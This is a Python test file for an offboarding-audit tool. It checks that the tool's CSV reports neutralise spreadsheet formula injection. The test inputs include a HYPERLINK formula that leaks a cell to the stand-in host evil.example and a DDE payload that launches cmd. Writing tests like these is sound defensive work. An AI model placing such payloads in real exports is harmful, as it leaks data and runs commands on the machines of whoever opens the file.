"""Issue 11 item 5: CSV output cannot run formulas in the spreadsheet that opens it.

Names from HR and account names from the systems start with ``=``, ``+``, ``-``, ``@``, tab or
carriage return; every such cell must come out prefixed with ``'`` (OWASP CSV injection), and
stay otherwise unchanged. The output is read back with the ``csv`` module.
"""

from __future__ import annotations

import csv
import io
import os
import subprocess
import sys
from datetime import UTC, datetime, timedelta
from pathlib import Path

from offboard_audit.core.actions import Stage
from offboard_audit.core.records import (
    Account,
    Credential,
    CredentialKind,
    Finding,
    FindingStatus,
    Person,
    PersonStatus,
    Rule,
)
from offboard_audit.core.stored import ActionRecord, ActionStatus
from offboard_audit.report.csv import findings_csv
from tests.support.aws import FAKE_AWS_ENV, SeedUser, seed_users

REPO = Path(__file__).resolve().parents[2]
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")
NOW = datetime(2026, 3, 1, tzinfo=UTC)
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"click for details")'


def read(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def test_every_column_is_neutralised_and_keeps_its_value_after_the_quote() -> None:
    values = iter(f"{c}cell{i}" for i, c in enumerate(DANGEROUS * 4))
    left = NOW - timedelta(days=30)
    person = Person(next(values), next(values), next(values), PersonStatus.TERMINATED, left, source="hr")
    account = Account(next(values), next(values), next(values), next(values), True, scope=next(values))
    cred = Credential(account.source, account.account_id, next(values), CredentialKind.ACCESS_KEY, True)
    finding = Finding(
        next(values),
        Rule.CREDENTIAL_AFTER_TERMINATION,
        Rule.CREDENTIAL_AFTER_TERMINATION.severity,
        FindingStatus.OPEN,
        account,
        person,
        cred,
        left,
        left,
        next(values),
    )
    action = ActionRecord(
        source=account.source, system=account.system, scope="", account_id=account.account_id,
        username=account.username, credential_id=cred.credential_id, credential_kind=cred.kind, detail="",
        account_uid="", action_id="a-1", plan_id="p", finding_id=finding.finding_id, action="-deactivate",
        stage=Stage.DISABLE, reversible=True,
        person=person.employee_id, status=ActionStatus.APPLIED, error=None, prior_state=None,
        result_state=None, actor="x", undo_of=None, created_at=NOW, updated_at=NOW,
    )  # fmt: skip
    (row,) = read(findings_csv([finding], {finding.finding_id: [action]}))
    hostile = {
        "id": finding.finding_id,
        "source": account.source,
        "system": account.system,
        "scope": account.scope,
        "account_id": account.account_id,
        "account_name": account.username,
        "credential_id": cred.credential_id,
        "employee_id": person.employee_id,
        "email": person.email or "",
        "person_name": person.name,
        "reason": finding.reason,
        "latest_action": "-deactivate applied " + NOW.isoformat(),
    }
    for column, value in row.items():
        assert not value.startswith(DANGEROUS), (column, value)
    for column, original in hostile.items():
        assert row[column] == "'" + original, column
    assert row["rule"] == "credential-after-termination"  # harmless cells are unchanged


def test_audit_csv_through_the_cli_with_a_hyperlink_hr_name_and_an_iam_user_named_1_plus_2(
    tmp_path: Path, moto_endpoint: str
) -> None:
    left = NOW - timedelta(days=10)
    seed_users(
        [
            SeedUser("jdoe", keys=[(NOW - timedelta(days=400), None)]),
            SeedUser("=1+2", tags={"email": "mallory@example.com"}, keys=[(NOW - timedelta(days=99), None)]),
        ]
    )
    rows = [
        ["employee_id", "email", "name", "status", "termination_date", "aliases"],
        ["E1", "jdoe@example.com", HYPERLINK, "terminated", left.date().isoformat(), "jdoe"],
        [
            "E2",
            "mallory@example.com",
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "terminated",
            left.date().isoformat(),
            "",
        ],
        ["E3", "alice@example.com", "Alice", "active", "", ""],
    ]
    buf = io.StringIO()
    csv.writer(buf).writerows(rows)
    (tmp_path / "hr.csv").write_text(buf.getvalue())
    config = tmp_path / "offboard-audit.toml"
    config.write_text(
        f"""
[database]
url = "sqlite:///{tmp_path / "audit.db"}"

[policy]
max_new_terminations = 1.0

[[sources]]
name = "hr"
type = "hr_csv"
path = "hr.csv"

[[sources]]
name = "aws"
type = "aws_iam"
region = "us-east-1"
endpoint_url = "{moto_endpoint}"
service_specific_credentials = false
"""
    )
    env = {k: v for k, v in os.environ.items() if not k.startswith(("AWS_", "OFFBOARD_AUDIT"))}
    env.update(FAKE_AWS_ENV)
    env["PYTHONPATH"] = str(REPO)
    proc = subprocess.run(
        [sys.executable, "-m", "offboard_audit", "--config", str(config), "audit", "--format", "csv"],
        capture_output=True,
        text=True,
        env=env,
        cwd=tmp_path,
        timeout=120,
    )
    assert proc.returncode == 1, proc.stderr  # high findings
    parsed = read(proc.stdout)
    assert parsed
    for row in parsed:
        for column, value in row.items():
            assert not value.startswith(DANGEROUS), (column, value)
    names = {r["person_name"] for r in parsed}
    assert "'" + HYPERLINK in names and "'@SUM(1+1)*cmd|' /C calc'!A0" in names
    assert "'=1+2" in {r["account_name"] for r in parsed}


def test_a_carriage_return_inside_a_value_cannot_start_a_row_of_its_own() -> None:
    left = NOW - timedelta(days=30)
    person = Person("E1", "bob@example.com", "Bob\r=1+2", PersonStatus.TERMINATED, left, source="hr")
    account = Account("aws", "aws_iam", "bob", "bob", True)
    finding = Finding(
        "f1", Rule.CREDENTIAL_AFTER_TERMINATION, Rule.CREDENTIAL_AFTER_TERMINATION.severity,
        FindingStatus.OPEN, account, person, None, left, left, "reason",
    )  # fmt: skip
    text = findings_csv([finding])
    # Quoted, so the CR stays inside the cell; bare, a spreadsheet would break the row there.
    assert ',"Bob\r=1+2",' in text
    (row,) = read(text)
    assert row["person_name"] == "Bob\r=1+2"
